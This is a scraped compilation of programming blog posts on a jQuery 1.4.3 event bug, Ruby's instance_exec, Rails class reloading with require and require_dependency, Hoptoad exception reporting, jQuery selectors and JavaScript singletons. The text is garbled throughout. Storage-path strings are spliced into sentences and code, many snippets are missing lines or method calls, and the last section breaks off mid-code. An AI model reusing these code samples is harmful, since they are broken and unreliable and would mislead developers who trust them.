It gets complicated with live and a bug in jQuery 1.4.3

To make the case complicated, jQuery 1.4.3 has a bug in which e.preventStopImmediatePropagation doest not work. Here is a link to this bug I reported.

To understand the bug take a look at following code:

<a href='' class='first'>click me</a>

$('a.first').live('click', function(e){

$('a.first').live('click', function(){

Since I am invoking e.stopImmediatePropagation I should never see alert world. However you will see that alert if you are using jQuery 1.4.3. You can play with it here .

This bug has been fixed as per this commit . Note that the commit mentioned was done after the release of jQuery 1.4.3.To get the fix you will have to wait for jQuery 1.4.4 release or use jQuery edge.

I am using rails.js (jquery-ujs). What do I do?

As I have shown “return false” does not work in jQuery 1.4.3 . However I would have to like have as much backward compatibility in jquery-ujs as much possible so that the same code base works with jQuery 1.4 through 1.4.3 since not every one upgrades immediately.

This commit should make jquery-ujs jquery 1.4.3 compatible. Many issues have been logged at jquery-ujs and I will take a look at all of them one by one. Pleaes do provide your feedback.

instance_exec , changing self and params

Here is updated article on the same topic .

Following code will print 99 as the output.

class Klass
  definitialize
    @secret = 99
puts { @secret }

Nothing great there. However try passing a parameter to instance_eval .

puts { @secret }

You will get following error.

wrong number of arguments (1 for 0)

So instance_eval does not allow you to pass parameters to a block.

How to get around to the restriction that instance_eval does not accept parameters

instance_exec was added to ruby 1.9 and it allows you to pass parameters to a proc. This feature has been backported to ruby 1.8.7 so we don’t really need ruby 1.9 to test this feature. Try this.

class Klass
  def initialize
    @secret = 99
puts'secret') { |t| eval"@#{t}" }

Above code works. So now we can pass parameters to block. Good.

Changing value of self

Another feature of instance_exec is that itchanges the value of self. To illustrate that I need to give a longer example.

module Kernel
  def singleton_class
    class << self

class Human
  proc = lambda { puts 'proc says my class is ' + }

  singleton_class.instance_eval do
    define_method(:lab)  do

class Developer < Human

Human.lab # class is Human
Developer.lab # class is Human ; oops

Notice that in that above case Developer.lab says “Human”. And that is the right answer from ruby perspective. However that is not what I intended. ruby stores the binding of the procin the context it was created and hence it rightly reports that self is “Human” even though it is being called by Developer.

Go to and look for instance_exec method. The doc says

Evaluate the block with the given arguments within the context of this object, so self is set to the method receiver.

It means that instance_exec evaluates self in a new context. Now try the same code with instance_exec .

module Kernel
  def singleton_class
    class << self

class Human
  proc = lambda { puts 'proc says my class is ' + }

  singleton_class.instance_eval do
    define_method(:lab)  do
      self.instance_exec &proc

class Developer < Human

Human.lab # class is Human
Developer.lab # class is Developer

In this case Developer.lab says Developer and not Human.You can also checkout this page which has much more detailed explanation of instance_exec and also emphasizes that instance_exec does pass a new value of self .

instance_exec is so useful that ActiveSupport needs it. And since ruby 1.8.6 does not have it ActiveSupport has code to support it.

I came across instance_exec issue while resolving #4507 rails ticket . The final solution did not need instance_exec but I learned a bit about it.

$LOADED_FEATURES and require, load, require_dependency

Rails developers know that in development mode classes are loaded on demand. In production mode all the classes are loaded as part of bootstrapping the system. Also in development mode classes are reloaded every single time page is refreshed.

In order to reload the class, Rails first has to unload . That unloading is done something like this.

# unload User class
Objet.send(:remove_const, :User)However a class might have other constants and they need to be unloaded too. Before you unload those constants you need to know all the constants that are defined in the class that is being loaded. Long story short rails keep track of every single constant that is loaded when it loads User or UserController.

Dependency mechanism is not perfect

Sometimes dependency mechanism by rails lets a few things fall through the crack. Try following case.

require 'open-uri'
class UsersController < ApplicationController
  def index
    open("") {|f| }
    render :text => 'hello'

Start the server in development mode and visit http://localhost:3000/users . First time every thing will come up fine. Now refresh the page. This time you should get an exception uninitialized constant OpenURI .

So what’s going on.

After the page is served the very first time then at the end of response rails will unload all the constants that were autoloaded including UsersController. However while unloading UsersContorller rails will also unload OpenURI.When the page is refreshed then UsersController will be loaded and require 'open-uri' will be called. However that require will return false.

Why require returns false

Try the following test case in irb.

step 1

irb(main):002:0> require 'ostruct'
=> truestep 2

irb(main):005:0* Object.send(:remove_const, :OpenStruct)
=> OpenStruct

step 3 : ensure that OpenStruct is truly removed

irb(main):006:0> Object.send(:remove_const, :OpenStruct)
NameError: constant Object::OpenStruct not defined
        from (irb):6:in `remove_const'
        from (irb):6:in `send'
        from (irb):6

step 4

irb(main):007:0> require 'ostruct'
=> false

step 5

NameError: uninitialized constant OpenStruct
        from (irb):9

Notice that in the above case in step 4 require returns false. ‘require’ checks against $LOADED_FEATURES. When OpenStruct was removed then it was not removed from $LOADED_FEATURES and hence ruby thought ostruct is already loaded.

How to get around to this issue.

require loads only once. However load loads every single time. In stead of ‘require’, ‘load’ could be used in this case.irb(main):001:0> load 'ostruct.rb'
=> true

=> #<OpenStruct>

Back to the original problem

In our rails application refresh of the page is failing. To get around to that issue use require_dependency instead of require. require_dependency is a rails thing. Under the hood rails does the same trick we did in the previous step. Rails calls kernel.load to load the constants that would fail if require were used.

I am not seeing hoptoad messages. Now I know why.

Following code has been tested with Rails 2.3.5 .Every one knows for sure that hoptoad notifier sends exception messages to server in production environment. Between ‘development’ and ‘production’ there could be a number of environments. Some of these would have settings closer to ‘development’ environment and some would have setting closely matching the settings of ‘production’ environment.

When you have many environments and when an exception occurs, one is not really sure if that message is getting logged at hoptoad or not. Here is a run down of which messages will get logged and why.

It alls starts with rails

When an exception occurs while rendering a page then action_controller catches the exception. Following logic is evaluated to decide if user should see an error page with full stack trace or ‘we are sorry something went wrong’ message.

if consider_all_requests_local || local_request?

Let’s look at first part consider_all_requests_local . Open ~/config/environments/development.rb and ~/config/environments/production.rb .

# ~/config/environments/development.rb
config.action_controller.consider_all_requests_local = true

# ~/config/environments/production.rb
config.action_controller.consider_all_requests_local = false

As you can see in development mode all requests are local. Be careful with what you put in your intermediary environments.

If you want to override that value then you can do like this.

ActionController::Base.consider_all_requests_local = trueThe second part of the equation was local_request? .

Rails has following code for that method.

LOCALHOST = ''.freeze

def local_request?
  request.remote_addr == LOCALHOST && request.remote_ip == LOCALHOST

As you can see all requests coming from are considered local even if RAILS_ENV is ‘production’. For testing purpose you can override this value like this.

def local_request?

Hoptoad has access to exception now what

If consider_all_request_local is false and if request is not local then hoptoad will get access to exception thanks to alias_method_chain.

def self.included(base)
  base.send(:alias_method, :rescue_action_in_public_without_hoptoad, :rescue_action_in_public)
  base.send(:alias_method, :rescue_action_in_public, :rescue_action_in_public_with_hoptoad)

Inrescue_action_in_public_with_hoptoad there is a call to notify_or_ignore like this.

unless hoptoad_ignore_user_agent?
  HoptoadNotifier.notify_or_ignore(exception, hoptoad_request_data)

For majority of us there is no special handling for a particular user_agent .

def notify_or_ignore(exception, opts = {})
  notice =build_notice_for(exception, opts)
  send_notice(notice) unless notice.ignore?

Hoptoad defines following methods as ignorable by default and you won’t get notifications for following types of exceptions.

IGNORE_DEFAULT = ['ActiveRecord::RecordNotFound',

Next hop is method send_notice .

def send_notice(notice)
  if configuration.public?

configuration.public? is defined like this.

@development_environments = %w(development test cucumber)
def public?

As you can see if the Rails.env is development or test or cucumber the exception will not be reported to hoptoad server.

List of only the elements that contains

I wastoying with simple list filter plugin and ended up with this markup.

<div id="lab">
  <ul id="list">
    <li><a href="">USA</a></li>
    <a href=''>USA</a>

I want to get all links that contains the word USA. Simple enough. jQuery supports contains selector.


Above query results in following items.

[html, body#body, div#lab, ul#list, li, a, ul, p, a]

That is because contains looks for given string under all the descendants.

has method to rescue

jQuery has method which returns the list of elements which have a descendant which has the given string.

b = $('*').has(":contains('USA')");

Above query results in following items.

[html, body#body, div#lab, ul#list, li, ul, p]

Final resulta = $(":contains('USA')");
b = $('*').has(":contains('USA')");
c = a.not(b) ;

Above query results in following items.

 [a, a]

Singleton function in JavaScript

Recently I was discussed with a friend how to create a singleton function in JavaScript. I am putting the same information here in case it might help someone understand JavaScript better.Creating an Object

Simplest solution is creating an instance of the object.

var Logger = function(path) {
    this.path = path;

l1 = new Logger('/home');

l2 = new Logger('/dev');

console.log(l1 === l2);

Above solution works. However l2 is a new instance of Logger .

Singleton solution using a global variable

window.global_logger = null;
var Logger = function(path) {
    if (global_logger) {
        console.log('global logger already present');
    } else {
